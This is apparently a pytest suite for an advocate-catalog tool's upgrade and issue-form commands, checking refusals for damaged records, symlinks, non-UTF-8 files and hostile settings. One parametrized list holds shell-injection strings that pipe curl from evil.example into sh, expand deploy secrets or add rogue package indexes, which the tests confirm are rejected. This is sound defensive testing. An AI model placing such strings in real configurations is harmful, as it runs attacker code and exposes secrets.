"""`upgrade` and `issue-form` as a careful platform team meets them: a record that is damaged or
planted, a file that is not text, a hostile `tool:` setting, no git, a clone, a second run. Each
refusal is one line and writes nothing; nothing a company changed is lost; deleted stays deleted."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from advocate_catalog import scaffold, upgrade
from advocate_catalog.cli import main
from advocate_catalog.errors import BuildError

COMMIT = "1" * 40
DEPLOY = ".github/workflows/deploy.yml"
FORM = ".github/ISSUE_TEMPLATE/nominate.yml"
# A problem in a file's text has its line and column; one with the file itself (a link, a folder
# where a file goes) names the path alone, as init's and schema's refusals do.
ONE_LINE = re.compile(r"^error: \S+?(:\d+:\d+)?: [^\n]+ — [^\n]+\n\Z")


def _run(*args: str, root: Path | None = None) -> tuple[int, str, str]:
    prefix = ["--root", str(root)] if root else []
    result = CliRunner().invoke(main, [*prefix, *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-c", "user.name=Platform", "-c", "user.email=platform@example.com",
                           *args], cwd=repo, check=True, capture_output=True, text=True)
    return done.stdout


@pytest.fixture
def company(tmp_path: Path) -> Path:
    repo = tmp_path / "acme-advocates"
    code, _, err = _run("init", str(repo))
    assert code == 0, err
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "Start the advocate catalog")
    return repo


def _listing(folder: Path) -> dict[str, str]:
    """Every entry below `folder` (links not followed, .git aside) and its bytes or link target."""
    found = {}
    for path in sorted(folder.rglob("*")):
        key = path.relative_to(folder).as_posix()
        if key == ".git" or key.startswith(".git/"):
            continue
        if path.is_symlink():
            found[key] = f"-> {os.readlink(path)}"
        elif path.is_file():
            found[key] = path.read_bytes().decode("utf-8", "replace")
        else:
            found[key] = "<folder>"
    return found


def _tool_setting(repo: Path, text: str) -> None:
    config = repo / "catalog.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "tool:\n" + text, encoding="utf-8")


def _moved_requirement(repo: Path, extra: str = "") -> None:
    """A change every generated install line follows: the tool from the company's own mirror."""
    _tool_setting(repo, "  requirement: advocate-catalog @ git+https://git.acme.example/mirrors/"
                        f"advocate-catalog@{COMMIT}\n" + extra)


def _refused(repo: Path, *args: str, message: str) -> None:
    """`upgrade --check` and `upgrade` both refuse in one line, exit 1, and write nothing."""
    before = _listing(repo.parent)
    for check in (["--check"], []):
        code, out, err = _run(*args, *check, root=repo)
        assert code == 1, (code, err)
        assert ONE_LINE.match(err), err
        assert message in err, err
        assert out == ""
        assert _listing(repo.parent) == before


# --- upgrade.json ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "message"), [
    ("not json {", "upgrade.json:1:1: not valid JSON"),
    ("[1, 2]\n", "upgrade.json:1:1: not what upgrade writes"),
    ('"0.3.0"\n', "upgrade.json:1:1: not what upgrade writes"),
    ('{"version": [1], "defaults": {}}\n', "upgrade.json:1:1: not what upgrade writes"),
    ('{"version": "0.3.0", "defaults": {"templates/base.html": 5}}\n', "not what upgrade writes"),
    ("[" * 100_000, "upgrade.json:1:1: not valid JSON"),
    ('{"pad": "' + "a" * 2_000_000 + '"}', "upgrade.json:1:1: larger than"),
    ("\ufeff{}", "upgrade.json:1:1: not valid JSON"),
])
def test_a_damaged_upgrade_json_is_one_line_and_nothing_is_written(company: Path, text: str,
                                                                   message: str) -> None:
    (company / upgrade.STATE).write_text(text, encoding="utf-8")
    _moved_requirement(company)
    _refused(company, "upgrade", message=message)


def test_upgrade_json_that_is_not_utf8_is_one_line(company: Path) -> None:
    (company / upgrade.STATE).write_bytes(b'{"version": "\xff"}')
    _moved_requirement(company)
    _refused(company, "upgrade", message="upgrade.json:1:14: not UTF-8")


def test_upgrade_json_deleted_keeps_the_base_copies(company: Path) -> None:
    """The hint of a damaged upgrade.json says to delete it: the merge still has its bases."""
    (company / upgrade.STATE).unlink()
    (company / ".github" / "workflows" / "digest.yml").unlink()
    _moved_requirement(company)
    code, _, err = _run("upgrade", root=company)
    assert code == 0, err
    assert not (company / ".github" / "workflows" / "digest.yml").exists()
    assert (company / upgrade.STATE).is_file()


# --- the record's folders and files ----------------------------------------------------------------

def _replace(repo: Path, path: str, kind: str, tmp_path: Path) -> None:
    target = repo / path
    elsewhere = tmp_path / "elsewhere" / Path(path).name
    elsewhere.parent.mkdir(exist_ok=True)
    if target.is_dir():
        target.rename(elsewhere)
    else:
        elsewhere.write_bytes(target.read_bytes())
        target.unlink()
    if kind == "link":
        target.symlink_to(elsewhere, target_is_directory=elsewhere.is_dir())
    elif kind == "dangling link":
        target.symlink_to(tmp_path / "nowhere")
    elif kind == "file":
        target.write_text("a file where a folder was\n", encoding="utf-8")
    else:
        target.mkdir()


@pytest.mark.parametrize(("path", "kind", "message"), [
    (upgrade.RECORD, "link", "is a symbolic link"),
    (upgrade.RECORD, "file", "is a file where upgrade keeps a folder"),
    (upgrade.BASE, "link", "is a symbolic link"),
    (upgrade.BASE, "dangling link", "is a symbolic link"),
    (upgrade.BASE, "file", "is a file where upgrade keeps a folder"),
    (f"{upgrade.BASE}/{DEPLOY}", "link", "is a symbolic link"),
    (f"{upgrade.BASE}/{DEPLOY}", "folder", "is a folder where upgrade keeps a file"),
    (upgrade.STATE, "link", "is a symbolic link"),
    (DEPLOY, "folder", "is a folder where upgrade keeps a file"),
    (".github", "file", "is a file where upgrade keeps a folder"),
])
def test_a_planted_record_is_refused_in_one_line(company: Path, tmp_path: Path, path: str, kind: str,
                                                 message: str) -> None:
    _replace(company, path, kind, tmp_path)
    _moved_requirement(company)
    _refused(company, "upgrade", message=message)


def test_a_link_inside_the_record_is_refused(company: Path, tmp_path: Path) -> None:
    """Not a generated path, but upgrade removes what it no longer generates from the record."""
    (tmp_path / "precious.yml").write_text("keep\n", encoding="utf-8")
    (company / upgrade.BASE / "old.yml").symlink_to(tmp_path / "precious.yml")
    _refused(company, "upgrade", message="is a symbolic link")
    assert (tmp_path / "precious.yml").read_text(encoding="utf-8") == "keep\n"


def test_an_excluded_file_may_be_a_link(company: Path, tmp_path: Path) -> None:
    """A path upgrade never writes does not stop it."""
    _replace(company, ".github/workflows/digest.yml", "link", tmp_path)
    _moved_requirement(company, "  exclude: [.github/workflows/digest.yml]\n")
    code, _, err = _run("upgrade", root=company)
    assert code == 0, err
    assert (company / ".github" / "workflows" / "digest.yml").is_symlink()


def test_init_into_a_folder_holding_a_file_named_like_a_generated_folder(tmp_path: Path) -> None:
    target = tmp_path / "new"
    target.mkdir()
    (target / ".github").write_text("not a folder\n", encoding="utf-8")
    code, _, err = _run("init", str(target))
    assert code == 1 and err.count("\n") == 1, err
    assert f"{target / '.github'}: is a file where init keeps a folder" in err
    assert sorted(p.name for p in target.iterdir()) == [".github"]


# --- text that is not plain UTF-8 ------------------------------------------------------------------

@pytest.mark.parametrize("path", [DEPLOY, f"{upgrade.BASE}/{DEPLOY}", scaffold.LOCK])
def test_a_generated_file_that_is_not_utf8_is_one_line(company: Path, path: str) -> None:
    file = company / path
    file.write_bytes(file.read_bytes() + b"# caf\xe9 (Windows-1252)\n")
    _moved_requirement(company)
    _refused(company, "upgrade", message=": not UTF-8 (byte 0xe9)")
    err = _run("upgrade", root=company)[2]
    line = file.read_bytes().count(b"\n")
    assert f"{path}:{line}:6: not UTF-8" in err


def test_crlf_and_a_bom_are_the_same_text(company: Path) -> None:
    freshness = company / ".github" / "workflows" / "freshness.yml"
    freshness.write_bytes(freshness.read_bytes().replace(b"\n", b"\r\n"))
    verify = company / ".github" / "workflows" / "verify.yml"
    verify.write_bytes(b"\xef\xbb\xbf" + verify.read_bytes())
    code, out, err = _run("upgrade", "--check", root=company)
    assert (code, out) == (0, ""), out + err
    _moved_requirement(company)
    assert _run("upgrade", root=company)[0] == 0
    for path in (freshness, verify):
        assert f"git.acme.example/mirrors/advocate-catalog@{COMMIT}" in path.read_text(encoding="utf-8")
    assert _run("upgrade", "--check", root=company)[:2] == (0, "")


# --- tool.exclude -----------------------------------------------------------------------------------

@pytest.mark.parametrize("pattern", ["*", "**", "/**"])
def test_exclude_everything_writes_no_file_of_the_company(company: Path, pattern: str) -> None:
    _moved_requirement(company, f"  exclude: ['{pattern}']\n")
    before = {path: text for path, text in _listing(company).items()
              if not path.startswith(upgrade.RECORD)}
    code, out, err = _run("upgrade", "--check", root=company)
    assert (code, out) == (0, ""), out + err
    assert _run("upgrade", root=company)[0] == 0
    assert {path: text for path, text in _listing(company).items()
            if not path.startswith(upgrade.RECORD)} == before


def test_exclude_outside_the_repository_names_nothing(company: Path, tmp_path: Path) -> None:
    (tmp_path / "x").write_text("outside\n", encoding="utf-8")
    _moved_requirement(company, "  exclude: ['../x', '../../*']\n")
    assert _run("upgrade", root=company)[0] == 0
    assert (tmp_path / "x").read_text(encoding="utf-8") == "outside\n"
    assert COMMIT in (company / DEPLOY).read_text(encoding="utf-8")


# --- idempotence, interruption ------------------------------------------------------------------------

def test_upgrade_twice_changes_nothing_the_second_time(company: Path) -> None:
    deploy = company / DEPLOY
    deploy.write_text(deploy.read_text(encoding="utf-8").replace(
        "-r requirements/advocate-catalog.txt", "-r requirements/ours.txt", 1), encoding="utf-8")
    freshness = company / ".github" / "workflows" / "freshness.yml"
    freshness.write_text(freshness.read_text(encoding="utf-8") + "# ours\n", encoding="utf-8")
    _moved_requirement(company)
    assert _run("upgrade", root=company)[0] == 1  # deploy.yml conflicts
    after = _listing(company)
    code, out, err = _run("upgrade", "--check", root=company)
    assert (code, out) == (0, ""), out + err
    assert _run("upgrade", root=company)[1] == ""
    assert _listing(company) == after


def test_an_upgrade_interrupted_before_its_record_is_rerun_without_nesting_markers(company: Path) -> None:
    deploy = company / DEPLOY
    deploy.write_text(deploy.read_text(encoding="utf-8").replace(
        "-r requirements/advocate-catalog.txt", "-r requirements/ours.txt", 1), encoding="utf-8")
    record = {path: (company / path).read_bytes() for path in _listing(company)
              if path.startswith(upgrade.RECORD) and (company / path).is_file()}
    _moved_requirement(company)
    assert _run("upgrade", root=company)[0] == 1
    marked = deploy.read_text(encoding="utf-8")
    assert marked.count("<<<<<<<") == 1
    for path, data in record.items():  # the record as it was: killed before it was written
        (company / path).write_bytes(data)
    code, _, err = _run("upgrade", root=company)
    assert code == 1
    assert f"{DEPLOY}: still holds the conflict markers of an earlier upgrade" in err
    assert deploy.read_text(encoding="utf-8") == marked


# --- no record, no git ------------------------------------------------------------------------------------

def _without_record(repo: Path) -> None:
    _git(repo, "rm", "-rq", upgrade.RECORD)
    _git(repo, "commit", "-q", "-m", "as 0.2.0 made it: no record")


def test_no_record_and_no_git_history_refuses(company: Path) -> None:
    _without_record(company)
    subprocess.run(["rm", "-rf", str(company / ".git")], check=True)
    (company / ".github" / "workflows" / "digest.yml").unlink()
    deploy = company / DEPLOY
    deploy.write_text(deploy.read_text(encoding="utf-8") + "# ours\n", encoding="utf-8")
    _moved_requirement(company)
    _refused(company, "upgrade", message="is not a git repository")


def test_no_record_in_a_shallow_clone_refuses(company: Path, tmp_path: Path) -> None:
    _without_record(company)
    _git(company, "commit", "-q", "--allow-empty", "-m", "later")
    clone = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", company.as_uri(), str(clone)], check=True)
    _moved_requirement(clone)
    _refused(clone, "upgrade", message="shallow clone")


def test_git_missing_from_path_is_one_line(company: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    _without_record(company)
    _moved_requirement(company)
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    _refused(company, "upgrade", message="git: not found")


def test_a_repository_cloned_elsewhere_carries_its_record(company: Path, tmp_path: Path) -> None:
    clone = tmp_path / "laptop"
    subprocess.run(["git", "clone", "-q", company.as_uri(), str(clone)], check=True)
    code, out, err = _run("upgrade", "--check", root=clone)
    assert (code, out) == (0, ""), out + err
    (clone / ".github" / "workflows" / "digest.yml").unlink()
    deploy = clone / DEPLOY
    deploy.write_text(deploy.read_text(encoding="utf-8") + "# ours\n", encoding="utf-8")
    _moved_requirement(clone)
    code, _, err = _run("upgrade", root=clone)
    assert code == 0, err
    assert "# ours" in deploy.read_text(encoding="utf-8") and COMMIT in deploy.read_text(encoding="utf-8")
    assert not (clone / ".github" / "workflows" / "digest.yml").exists()


# --- the pre-commit hook ------------------------------------------------------------------------------------

def test_a_change_to_our_own_hook_is_never_dropped(company: Path) -> None:
    pre_commit = company / ".pre-commit-config.yaml"
    text = pre_commit.read_text(encoding="utf-8")
    text = re.sub(r"^(        additional_dependencies: .*\n)", r"\1        verbose: true\n", text, flags=re.M)
    pre_commit.write_text(text + "        stages: [pre-push]\n", encoding="utf-8")
    _moved_requirement(company)
    code, _, err = _run("upgrade", root=company)
    after = pre_commit.read_text(encoding="utf-8")
    assert "verbose: true" in after and "stages: [pre-push]" in after
    assert code == 1 and ".pre-commit-config.yaml: 1 conflict(s)" in err


# --- tool: requirement and index ----------------------------------------------------------------------------

HOSTILE = [
    f'advocate-catalog @ git+https://x.example/$(curl${{IFS}}evil.example|sh)/a@{COMMIT}',
    f'advocate-catalog @ git+https://x.example/a"; curl evil.example | sh; "@{COMMIT}',
    f"advocate-catalog @ git+https://x.example/`id`@{COMMIT}",
    f"advocate-catalog @ git+https://x.example/${{{{ secrets.DEPLOY_KEY }}}}@{COMMIT}",
    f"advocate-catalog @ git+https://x.example/a@{COMMIT}\nenv:\n  X: y\n#@{COMMIT}",
    f"advocate-catalog @ git+https://x.example/a b@{COMMIT}",
    f"advocate-catalog @ git+https://x.example/a\\@{COMMIT}",
    "advocate-catalog @ https://x.example/a.whl\n--extra-index-url https://evil.example/",
]


@pytest.mark.parametrize("requirement", HOSTILE)
def test_a_hostile_requirement_reaches_no_generated_file(company: Path, requirement: str) -> None:
    _tool_setting(company, f"  requirement: {json.dumps(requirement)}\n")
    before = _listing(company)
    for check in (["--check"], []):
        code, out, err = _run("upgrade", *check, root=company)
        assert code == 1 and out == "", err
        assert "tool.requirement" in err and "Traceback" not in err
    assert _listing(company) == before
    with pytest.raises(BuildError, match=r"catalog\.yaml:\d+:1: tool\.requirement .* — "):
        scaffold.resolve_tool(company, scaffold.version(), {"requirement": requirement})


@pytest.mark.parametrize("requirement", [
    f"advocate-catalog @ git+https://github.com/acme/advocate-catalog@{COMMIT}",
    f"advocate-catalog @ git+ssh://git@github.com/acme/advocate-catalog.git@{COMMIT}",
    f"Advocate_Catalog@git+https://git.acme.example/mirrors/advocate-catalog.git@{COMMIT}",
])
def test_ordinary_requirements_still_resolve(company: Path, requirement: str) -> None:
    tool = scaffold.resolve_tool(company, scaffold.version(), {"requirement": requirement})
    assert tool.requirement == requirement and tool.from_git


@pytest.mark.parametrize("index", ["https://pypi.acme.example/simple --trusted-host evil.example",
                                   "https://pypi.acme.example/simple\n--extra-index-url https://e.example/",
                                   "https://pypi.acme.example/$(id)/simple"])
def test_a_hostile_index_reaches_no_lock(company: Path, index: str) -> None:
    version = scaffold.version()
    lock = company / scaffold.LOCK
    # The hash is known already (a wheel locked before): no download would stop it.
    lock.write_text(lock.read_text(encoding="utf-8") + f"advocate-catalog=={version} \\\n"
                    f"    --hash=sha256:{'a' * 64}\n", encoding="utf-8")
    _tool_setting(company, f"  requirement: advocate-catalog=={version}\n"
                           f"  index: {json.dumps(index)}\n")
    before = _listing(company)
    code, out, err = _run("upgrade", root=company)
    assert code == 1 and out == "" and "tool.index" in err, err
    assert _listing(company) == before
    with pytest.raises(BuildError, match=r"catalog\.yaml:\d+:1: tool\.index .* — "):
        scaffold.resolve_tool(company, version, {"requirement": f"advocate-catalog=={version}",
                                                 "index": index}, {f"advocate-catalog=={version}": "a" * 64})


# --- issue-form --------------------------------------------------------------------------------------------

def _new_region(repo: Path) -> None:
    config = repo / "catalog.yaml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "    - {id: apac, label: Asia-Pacific}\n",
        "    - {id: apac, label: Asia-Pacific}\n    - {id: anz, label: Australia & New Zealand}\n"),
        encoding="utf-8")


def test_issue_form_after_a_vocabulary_change_moves_the_record_along(company: Path) -> None:
    _new_region(company)
    code, _, err = _run("issue-form", root=company)
    assert code == 0, err
    for path in scaffold.ISSUE_FORMS:
        assert ((company / upgrade.BASE / path).read_text(encoding="utf-8")
                == (company / path).read_text(encoding="utf-8")), path
    assert _run("issue-form", "--check", root=company)[0] == 0
    code, out, _ = _run("upgrade", "--check", root=company)
    assert "ISSUE_TEMPLATE" not in out  # only the editor schemas are left to upgrade


def test_issue_form_reports_a_conflict_and_fails(company: Path) -> None:
    form = company / FORM
    form.write_text(form.read_text(encoding="utf-8").replace("Asia-Pacific", "APAC (ours)"), encoding="utf-8")
    _new_region(company)
    code, _, err = _run("issue-form", root=company)
    assert code == 1
    assert f"{FORM}: 1 conflict(s) left between <<<<<<< and >>>>>>>" in err
    assert "APAC (ours)" in form.read_text(encoding="utf-8")


def test_issue_form_needs_no_tool_settings(company: Path) -> None:
    """The validate workflow runs `issue-form --check`: a tool setting it cannot lock (offline, no
    hash known) is upgrade's business, not the forms'."""
    _tool_setting(company, "  requirement: advocate-catalog==" + scaffold.version() + "\n"
                           "  index: https://pypi.invalid.example/simple\n")
    _new_region(company)
    code, _, err = _run("issue-form", root=company)
    assert code == 0, err
    assert _run("issue-form", "--check", root=company)[0] == 0


def test_issue_form_in_a_repository_without_record_keeps_deleted_files_deleted(company: Path) -> None:
    """0.2.0 made the repository (no record); issue-form writes the forms' base copies; the next
    upgrade still reads the other files' bases from git: a deleted workflow is not re-created."""
    _without_record(company)
    (company / ".github" / "workflows" / "digest.yml").unlink()
    _git(company, "commit", "-q", "-am", "No digest")
    _new_region(company)
    assert _run("issue-form", root=company)[0] == 0
    _moved_requirement(company)
    code, _, err = _run("upgrade", root=company)
    assert code == 0, err
    assert not (company / ".github" / "workflows" / "digest.yml").exists()
    assert "<<<<<<<" not in (company / DEPLOY).read_text(encoding="utf-8")
